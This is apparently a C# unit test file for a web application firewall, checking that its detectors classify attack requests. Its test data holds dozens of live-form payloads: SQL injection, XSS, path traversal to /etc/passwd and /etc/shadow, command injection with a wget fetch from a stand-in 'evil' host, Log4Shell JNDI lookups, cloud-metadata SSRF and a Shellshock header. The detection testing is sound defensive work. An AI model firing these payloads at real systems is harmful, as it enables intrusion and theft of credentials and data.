using Ensuresec.Waf.Model;

namespace Ensuresec.Waf.Tests.Detectors;

/// <summary>Each class fires on its attacks, through the query string and through the right request part.</summary>
public sealed class AttackClassTests
{
    [Theory]
    [InlineData("/search?q=1%27%20OR%20%271%27%3D%271", AttackClass.SqlInjection)]
    [InlineData("/product?id=1%20UNION%20ALL%20SELECT%20username,password%20FROM%20users--", AttackClass.SqlInjection)]
    [InlineData("/product?id=1;DROP%20TABLE%20orders", AttackClass.SqlInjection)]
    [InlineData("/product?id=1%20AND%20SLEEP(5)", AttackClass.SqlInjection)]
    [InlineData("/login?user=admin%27--", AttackClass.SqlInjection)]
    [InlineData("/product?id=1/*!50000union*/+select+1", AttackClass.SqlInjection)]
    [InlineData("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", AttackClass.CrossSiteScripting)]
    [InlineData("/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", AttackClass.CrossSiteScripting)]
    [InlineData("/r?url=java%0Ascript:alert(1)", AttackClass.CrossSiteScripting)]
    [InlineData("/search?q=%22%3E%3Csvg/onload%3Dalert(document.cookie)%3E", AttackClass.CrossSiteScripting)]
    [InlineData("/download?file=../../../../etc/passwd", AttackClass.PathTraversal)]
    [InlineData("/download?file=..%252f..%252fwindows/win.ini", AttackClass.PathTraversal)]
    [InlineData("/download?file=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow", AttackClass.PathTraversal)]
    [InlineData("/page?inc=http://203.0.113.9/shell.txt", AttackClass.RemoteFileInclusion)]
    [InlineData("/ping?host=127.0.0.1;cat%20/etc/passwd", AttackClass.CommandInjection)]
    [InlineData("/ping?host=x|wget%20http://evil/x.sh", AttackClass.CommandInjection)]
    [InlineData("/ping?host=%24(whoami)", AttackClass.CommandInjection)]
    [InlineData("/ping?host=x;c%27a%27t%20/e%5Ctc/pa%22%22sswd", AttackClass.CommandInjection)]
    [InlineData("/x?cmd=cmd.exe%20/c%20dir", AttackClass.CommandInjection)]
    [InlineData("/x?a=%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B", AttackClass.PhpInjection)]
    [InlineData("/x?a=O:8:%22stdClass%22:0:%7B%7D", AttackClass.Deserialization)]
    [InlineData("/x?a=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", AttackClass.Deserialization)]
    [InlineData("/x?a=java.lang.Runtime", AttackClass.JavaInjection)]
    [InlineData("/x?name=%7B%7B7*7%7D%7D", AttackClass.TemplateInjection)]
    [InlineData("/x?name=%24%7B%7B''.__class__%7D%7D", AttackClass.TemplateInjection)]
    [InlineData("/x?x=%24%7Bjndi:ldap://evil.example/a%7D", AttackClass.JndiInjection)]
    [InlineData("/x?x=%24%7B%24%7Blower:j%7Dndi:%24%7Blower:l%7Ddap://evil/a%7D", AttackClass.JndiInjection)]
    [InlineData("/fetch?url=http://169.254.169.254/latest/meta-data/", AttackClass.Ssrf)]
    [InlineData("/fetch?url=gopher://127.0.0.1:6379/_INFO", AttackClass.Ssrf)]
    [InlineData("/dir?user=admin)(%7C(password%3D*))", AttackClass.LdapInjection)]
    [InlineData("/x?f=_%24%24ND_FUNC%24%24_function()%7B%7D", AttackClass.NodeInjection)]
    [InlineData("/x?a=%00", AttackClass.Protocol)]
    public void Analyze_AttackInQuery_FindsItsClass(string target, AttackClass expected)
    {
        var verdict = Requests.Analyze(Requests.Get(target));
        verdict.Classes().ShouldContain(expected, string.Join("; ", verdict.Findings.Select(f => f.RuleId + " " + f.Evidence)));
        verdict.IsAttack.ShouldBeTrue();
    }

    [Fact]
    public void Analyze_Finding_NamesPartArgumentTechniqueAndEvidence()
    {
        var f = Requests.Analyze(Requests.Get("/p?id=1%20UNION%20SELECT%201,2")).Findings.First(x => x.Class == AttackClass.SqlInjection);
        f.Part.ShouldBe(RequestPart.QueryValue);
        f.Name.ShouldBe("id");
        f.Technique.ShouldBe("T1190");
        f.Evidence.ShouldContain("union");
    }

    [Fact]
    public void Analyze_ScannerUserAgent_IsAScanner()
    {
        var v = Requests.Analyze(new HttpRequestData { Method = "GET", Target = "/", Headers = [new("Host", "a"), new("User-Agent", "sqlmap/1.7#stable (https://sqlmap.org)"), new("Accept", "*/*")] });
        v.Classes().ShouldContain(AttackClass.Scanner);
    }

    [Fact]
    public void Analyze_ShellshockInUserAgent_IsFoundInTheHeader()
    {
        var v = Requests.Analyze(Requests.Get("/cgi-bin/status", new KeyValuePair<string, string>("X-Test", "() { :; }; /bin/bash -c 'cat /etc/passwd'")));
        v.Findings.ShouldContain(f => f.Part == RequestPart.Header && f.Name == "X-Test");
    }

    [Fact]
    public void Analyze_Smuggling_ContentLengthWithTransferEncoding()
    {
        var r = Requests.Post("/", "application/x-www-form-urlencoded", "a=b", new KeyValuePair<string, string>("Transfer-Encoding", "chunked"));
        Requests.Analyze(r).Findings.ShouldContain(f => f.RuleId == "ES-WAF-921-SMUGGLING");
    }

    [Fact]
    public void Analyze_ParanoiaOne_SkipsLevelTwoRules()
    {
        var r = Requests.Get("/p?q=concat(a)");
        Requests.Analyze(r, paranoia: 2).Findings.ShouldContain(f => f.RuleId == "ES-WAF-942-FUNCTION");
        Requests.Analyze(r, paranoia: 1).Findings.ShouldNotContain(f => f.RuleId == "ES-WAF-942-FUNCTION");
    }

    [Fact]
    public void Analyze_Score_IsTheSumOfFindingScores()
    {
        var v = Requests.Analyze(Requests.Get("/p?a=1%20UNION%20SELECT%201&b=%3Cscript%3E"));
        v.Score.ShouldBe(v.Findings.Sum(f => f.Score));
        v.Score.ShouldBeGreaterThanOrEqualTo(10);
    }
}
